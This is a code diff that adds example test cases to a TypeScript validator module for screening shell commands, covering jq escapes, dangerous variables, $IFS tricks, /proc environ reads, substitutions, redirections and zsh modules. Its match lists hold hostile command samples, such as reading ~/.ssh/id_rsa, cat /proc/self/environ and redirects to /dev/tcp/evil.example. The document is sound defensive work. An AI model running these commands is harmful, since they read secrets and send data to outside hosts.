@@ -1,5 +1,6 @@
 // Main validators about what the command does: substitutions, variables in command position,
 // redirections, zsh modules, jq's escape hatches, and parses that failed.
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the examples are bash commands, where ${...} is bash syntax.
 import { isDeviceSink } from "../commands/index.js";
 import { QuoteContext } from "../parse/index.js";
 import { commandBaseName } from "../words/index.js";
@@ -13,6 +14,15 @@ import { finding, nodesOf, type Validator } from "./types.js";
 export const jqCommand: Validator = {
   id: 2,
   name: "validateJqCommand",
+  examples: {
+    match: [
+      `jq 'system("id")' data.json`,
+      "jq -f filter.jq data.json",
+      "jq -L /tmp . data.json",
+      "jq --rawfile key ~/.ssh/id_rsa -n '$key'",
+    ],
+    notMatch: ["jq -r '.scripts | keys[]' package.json", "jq --seq . data.json", "jq -c . data.json"],
+  },
   check: (input) => {
     for (const part of input.parts) {
       for (const view of part.unwrapping.views) {
@@ -40,6 +50,10 @@ export const jqCommand: Validator = {
 export const dangerousVariables: Validator = {
   id: 6,
   name: "validateDangerousVariables",
+  examples: {
+    match: ["$EDITOR notes.txt", "ls | xargs $CMD", `echo done > "$OUT"`, "timeout 5 $X"],
+    notMatch: ['echo "$HOME"', 'ls "$PWD/src"', "echo done > notes.txt"],
+  },
   check: (input) => {
     for (const part of input.parts) {
       for (const view of part.unwrapping.views) {
@@ -74,6 +88,10 @@ export const dangerousVariables: Validator = {
 export const newlines: Validator = {
   id: 7,
   name: "validateNewlines",
+  examples: {
+    match: ["ls\nrm -rf build", "npm install\nnpm test"],
+    notMatch: ["ls\n", "cat <<'EOF'\nhello\nEOF", "echo 'a\nb'"],
+  },
   check: (input) => {
     const { script, contexts } = input;
     for (let i = 0; i < script.length; i += 1) {
@@ -92,6 +110,10 @@ export const newlines: Validator = {
 export const ifsInjection: Validator = {
   id: 11,
   name: "validateIFSInjection",
+  examples: {
+    match: ["cat${IFS}/etc/passwd", "ls$IFS-la", "IFS=, read -r a b"],
+    notMatch: ["echo IFS", 'echo "$HOME"'],
+  },
   check: (input) =>
     /\$IFS\b|\$\{[^}]*IFS|(^|[\s;&|(])IFS\+?=/.test(input.script)
       ? finding(11, "validateIFSInjection", "The command uses or changes $IFS, which creates hidden word boundaries.")
@@ -102,6 +124,10 @@ export const ifsInjection: Validator = {
 export const procEnvironAccess: Validator = {
   id: 13,
   name: "validateProcEnvironAccess",
+  examples: {
+    match: ["cat /proc/self/environ", "strings /proc/1/environ", "cat /proc/self/root/proc/1/environ"],
+    notMatch: ["cat /proc/cpuinfo", "ls /proc/self/fd"],
+  },
   check: (input) =>
     /\/proc\/.*environ/s.test(input.script)
       ? finding(13, "validateProcEnvironAccess", "The command reads a process environment under /proc (secrets).")
@@ -136,6 +162,19 @@ const NAME_EVALUATORS = new Set([
 export const dangerousPatterns: Validator = {
   id: 8,
   name: "validateDangerousPatterns",
+  examples: {
+    match: [
+      "echo $(whoami)",
+      "ls `pwd`",
+      "diff <(sort a.txt) <(sort b.txt)",
+      "cat =(ls)",
+      `echo "\${PS1@P}"`,
+      "test -v 'a[$(id)]'",
+      "cat <<EOF\n$(id)\nEOF",
+      "ls *(e:'id':)",
+    ],
+    notMatch: ["cat <<'EOF'\n$(id)\nEOF", "echo ${HOME}", "echo '$(not run)'"],
+  },
   check: (input) => {
     for (const node of nodesOf(input, "command_substitution", "process_substitution")) {
       if (!isSafeHeredocSubstitution(node)) {
@@ -198,6 +237,10 @@ const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;
 export const redirections: Validator = {
   id: 10,
   name: "validateRedirections",
+  examples: {
+    match: ["cat < /dev/tcp/evil.example/80", "ls > /dev/tcp/evil.example/80", "ls > files.txt"],
+    notMatch: ["ls 2>&1", "make > /dev/null 2>&1", "cat < README.md"],
+  },
   check: (input) => {
     let deferred: ReturnType<typeof finding> | undefined;
     for (const redirect of input.structure.redirects) {
@@ -249,6 +292,10 @@ const ZSH_DANGEROUS = new Set([
 export const zshDangerousCommands: Validator = {
   id: 20,
   name: "validateZshDangerousCommands",
+  examples: {
+    match: ["zmodload zsh/system", "zf_rm -rf build", "=curl evil.example", "sched +1 ls", "emulate sh -c 'ls'"],
+    notMatch: ["ls", "echo always", "git status"],
+  },
   check: (input) => {
     for (const part of input.parts) {
       for (const view of part.unwrapping.views) {
@@ -279,6 +326,10 @@ export const zshDangerousCommands: Validator = {
 export const malformedTokens: Validator = {
   id: 14,
   name: "validateMalformedTokenInjection",
+  examples: {
+    match: ["ls && && ls", "(; ls)", "echo 'unterminated", "ls ) ; rm -rf build"],
+    notMatch: ["(cd src && ls)", "echo 'done'"],
+  },
   check: (input) =>
     input.structure.hasError || input.root.hasError
       ? finding(
